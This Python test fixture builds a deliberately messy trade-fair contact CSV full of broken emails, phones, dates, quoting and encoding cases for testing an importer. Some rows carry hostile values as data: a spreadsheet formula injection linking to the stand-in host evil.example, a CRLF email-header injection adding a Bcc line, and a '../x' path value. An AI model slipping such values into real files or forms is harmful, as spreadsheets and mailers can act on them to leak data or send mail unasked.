"""The dirty sample: a list several people typed at a trade fair, with one thing wrong after the other.

Lines are written here as they stand in the file, because what is wrong with most of them no CSV writer would produce.
UTF-8 with BOM, commas, CRLF. Every domain is reserved, every number fictional or no number at all.
"""

from collections.abc import Iterator
from typing import Final

from tests.bench.people import person

NAME: Final = "trade_fair_2026.csv"
HEADER: Final = "ID,First Name,Last Name,Email,Phone,Country,Date of Birth,Status,Tags,Notes"

# a person's row, by what is different in it: cells in the order of the header
FINE: Final = (
    ("Subscribed", "vip; fair", ""),
    ("yes", "fair", "wants the catalogue, in print"),
    ("opted out", "", ""),
    ("YES", "VIP", ""),
    ("no", "", ""),
    ("", "fair", ""),
)

LINES: Final = (
    # the same visitor three times; the strictest word counts
    "F-100,Rosa,Tindall,rosa.tindall@example.com,(415) 555-0181,US,1984-02-29,yes,fair,",
    "F-101,ROSA,TINDALL, Rosa.Tindall@Example.COM ,415.555.0181,USA,1984-02-29,yes,Fair,typed twice",
    "F-102,Rosa,Tindall,rosa.tindall@example.com,,,,unsubscribed,,called back",
    # one mailbox, two people
    "F-103,Hugo,Vance,the.vances@example.org,,US,,yes,,",
    "F-104,Ida,Vance,the.vances@example.org,,US,,yes,,",
    # a mailbox with a role, and a person known by the phone alone
    "F-105,Noor,Haddon,office@atelier.example,202-555-0190,US,,yes,,",
    "F-106,Otto,Brandt,,+49 176 04069077,Germany,,yes,,no e-mail",
    # neither e-mail nor phone nor anything else to know somebody by
    ",Nobody,Known,,,US,,yes,,",
    # e-mail addresses that are none
    "F-110,Ada,Bell,ada.bell.example.com,,US,,yes,,",
    "F-111,Ben,Cole,ben@@example.com,,US,,yes,,",
    "F-112,Cam,Dorn,cam..dorn@example.com,,US,,yes,,",
    "F-113,Dot,Eads,.dot@example.com,,US,,yes,,",
    "F-114,Eli,Frye,eli@example.com.,,US,,yes,,",
    "F-115,Fay,Gale,fay@localhost,,US,,yes,,",
    "F-116,Gus,Hale,gus at example.com,,US,,yes,,",
    "F-117,Hal,Ives,hal@-dash.example,,US,,yes,,",
    f"F-118,Ina,Judd,{'i' * 65}@example.com,,US,,yes,,",
    "F-119,Jed,Kerr,n/a,,US,,yes,,",
    "F-120,Kit,Lamb,kit@[192.0.2.7],,US,,yes,,",
    'F-121,Lou,Mead,"""lou mead""@example.com",,US,,yes,,',
    "F-122,May,Nash,may@example.com; may@example.org,,US,,yes,,",
    "F-123,Ned,Orr,Ned Orr <ned.orr@example.com>,,US,,yes,,",
    "F-124,Ola,Pike,mailto:ola.pike@example.com,,US,,yes,,",
    "F-125,Pat,Quill,pat\u200b.quill@example.com,,US,,yes,,",
    "F-126,Quinn,Rook,\uff51uinn@example.com,,US,,yes,,",
    '"F-127","Ray","Shaw","ray@example.com\r\nBcc: all@example.org",,US,,yes,,',
    # fine after all: spaces around, an umlaut domain, a plus sign
    "F-130,Sam,Tripp,\u00a0sam.tripp@example.net ,,US,,yes,,",
    "F-131,Tilda,Übel,tilda@münze.example,,Germany,,yes,,",
    "F-132,Uma,Voss,uma.voss+fair@example.com,,US,,yes,,",
    # names: a word that looks like nothing, a quote, a formula, one far too long, control characters, an override
    "F-140,Null,None,null.none@example.com,,US,,yes,,",
    "F-141,Sinéad,O'Brien,sinead.obrien@example.org,,GB,,yes,,",
    'F-142,"=HYPERLINK(""https://evil.example/?x="",""click"")",Wray,cell.formula@example.com,,US,,yes,,@SUM(1+1)',
    f"F-143,{'Long' * 60},Name,long.name@example.com,,US,,yes,,",
    "F-144,Bell\x07,Ringer,bell.ringer@example.com,,US,,yes,,",
    "F-145,Nul\x00,Byte,nul.byte@example.com,,US,,yes,,",
    "F-146,\u202eesrever,Order,over.ride@example.com,,US,,yes,,",
    # phones that are none, and one with an extension
    "F-150,Vera,Ames,vera.ames@example.com,n/a,US,,yes,,",
    "F-151,Walt,Boyd,walt.boyd@example.com,12345,US,,yes,,",
    "F-152,Xena,Cobb,xena.cobb@example.com,000-000-0000,US,,yes,,",
    "F-153,Yves,Dale,yves.dale@example.com,+44 7700 900123,GB,,yes,,",
    "F-154,Zora,East,zora.east@example.com,+1 (202) 555-0177 x9,US,,yes,,",
    # dates and words nobody can read, a country that is none
    "F-160,Arlo,Finch,arlo.finch@example.com,,US,2023-02-29,maybe?,,",
    "F-161,Bree,Gould,bree.gould@example.com,,Atlantis,0000-00-00,☑,,",
    "F-162,Cleo,Hurst,cleo.hurst@example.com,,US,45291,double opt-in,../x,",
    # too few cells, too many cells, nothing at all
    "F-170,Dex,Irwin,dex.irwin@example.com",
    "F-171,Edie,Joyce,edie.joyce@example.com,,US,,yes,,,one,more",
    "",
    ",,,,,,,,,",
    # quotes: fine inside a value, wrong after one, and twice left open until the next line closes it: once so that the
    # halves cannot be one record, once so that they look like one, with a line end in the name
    'F-180,Fern,Knox,fern.knox@example.com,,US,,yes,,a 12" screen',
    'F-181,"Gil"bert,Lowe,gil.lowe@example.com,,US,,yes,,',
    'F-182,Hope,Marsh,hope.marsh@example.com,,US,,yes,,"said ""later"",\r\nthen left"',
    'F-183,"Kai,Perry,kai.perry@example.com,,US,,yes,,',
    'F-184,Lea,"Quist",lea.quist@example.com,,US,,yes,,',
    'F-185,"Iris,Nolan,iris.nolan@example.com,,US,,yes,,',
    'F-186,Jude",Oakes,jude.oakes@example.com,,US,,yes,,',
)
NOT_UTF8: Final = b"F-190,J\xf6rg,Latin,joerg.latin@example.com,,DE,,yes,,"


def content() -> bytes:
    """The whole file. A dozen ordinary visitors stand before, between and after what is wrong."""
    visitors = list(ordinary())
    lines = [HEADER, *visitors[:6], *LINES, *visitors[6:]]
    body = b"".join(line.encode() + b"\r\n" for line in lines)
    return b"\xef\xbb\xbf" + body + NOT_UTF8 + b"\r\n" + b"F-191,Last,Visitor,last.visitor@example.com,,US,,yes,fair,"


def ordinary() -> Iterator[str]:
    """Twelve rows with nothing wrong; two of the people are in other sample lists too."""
    for n in range(12):
        who = person(n if n < 2 else 160 + n)
        status, tags, notes = FINE[n % len(FINE)]
        notes = f'"{notes}"' if "," in notes else notes
        phone = who.phone if n % 2 else ""
        yield f"F-{n + 1:03},{who.first},{who.last},{who.email},{phone},{who.country},,{status},{tags},{notes}"
